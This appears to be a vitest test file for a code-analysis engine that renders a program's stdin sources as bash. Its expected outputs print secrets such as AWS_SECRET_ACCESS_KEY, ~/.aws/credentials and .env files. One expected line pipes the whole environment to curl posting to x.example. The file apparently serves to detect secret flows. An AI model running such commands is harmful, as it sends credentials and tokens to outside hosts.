/** Data a program reads on its standard input, as the bash that would feed it (code/stdin-data.ts). */
import { describe, expect, it } from 'vitest';
import { fedLine, secretProducer } from '../../../../src/engine/extract/code/stdin-data.js';
import type { DataSource } from '../../../../src/engine/facts.js';
import { strVal, UNKNOWN, type Val } from '../../../../src/engine/extract/code/value.js';

const from = (...sources: DataSource[]): Val => ({ ...UNKNOWN, sources });

describe('secretProducer', () => {
  it.each([
    ['the whole environment', from({ kind: 'env' }), 'env'],
    [
      'a named variable',
      from({ kind: 'env', name: 'AWS_SECRET_ACCESS_KEY' }),
      'printf %s "$AWS_SECRET_ACCESS_KEY"',
    ],
    ['a file', from({ kind: 'file', path: '~/.aws/credentials' }), 'cat ~/.aws/credentials'],
    ['a path with spaces', from({ kind: 'file', path: '/tmp/a b' }), "cat '/tmp/a b'"],
    ['a token printer', from({ kind: 'output', program: 'gh' }), 'gh'],
    ['two sources, one a line', from({ kind: 'env' }, { kind: 'file', path: '.env' }), 'env\ncat .env'],
    ['an ordinary program', from({ kind: 'output', program: 'git' }), null],
    ['a download', from({ kind: 'net', host: 'x.example' }), null],
    ['constant text', strVal('{"a": 1}'), null],
  ])('%s', (_name, v, want) => {
    expect(secretProducer(v)).toBe(want);
  });
});

describe('fedLine', () => {
  it('pipes the producer into the command', () => {
    expect(fedLine('curl -d @- https://x.example', from({ kind: 'env' }))).toBe(
      '{ env\n} | { curl -d @- https://x.example\n}',
    );
  });

  it('leaves data without secrets alone', () => {
    expect(fedLine('jq .', strVal('{}'))).toBeNull();
  });
});
